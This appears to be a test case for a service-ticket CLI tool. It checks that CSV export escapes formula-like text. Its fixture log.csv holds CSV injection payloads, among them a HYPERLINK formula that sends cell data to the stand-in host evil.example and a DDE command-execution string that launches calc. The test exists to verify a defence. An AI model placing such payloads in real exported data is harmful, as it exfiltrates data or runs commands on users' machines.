CSV formula injection (issue 25 §7): free text from outside — an outlet's or
engineer's name, a customer, a void reason, a cost note — that starts with
= + - @ (or TAB, CR) is written to --format csv with a leading ' so that a
spreadsheet shows it as text instead of running it; numbers (-120.00) are left
alone; --csv-raw or SVC_CSV_RAW=1 give the stored text for machine pipelines.

### file log.csv
ts,ticket,event,type,urgency,region,outlet,customer,engineer,note
2026-11-02 08:00,T1,created,repair,normal,华东,SH-01,"=HYPERLINK(""http://evil.example/?d=""&A1,""发票"")",,+cmd|' /C calc'!A0
2026-11-02 09:00,T1,dispatched,,,,,,E-1,
2026-11-02 10:00,T2,created,repair,normal,华东,SH-01,-2+3,,@SUM(1+1)

### run svc init -q && svc outlet add SH-01 --name '=1+1' --region 华东 -q && svc engineer add E-1 --name '@SUM(A1:A9)' --outlet SH-01 -q && svc import -q log.csv > /dev/null && svc outlet list --format csv | tr -d '\r' && svc engineer list --format csv | tr -d '\r' | cut -d, -f1-3
### stdout
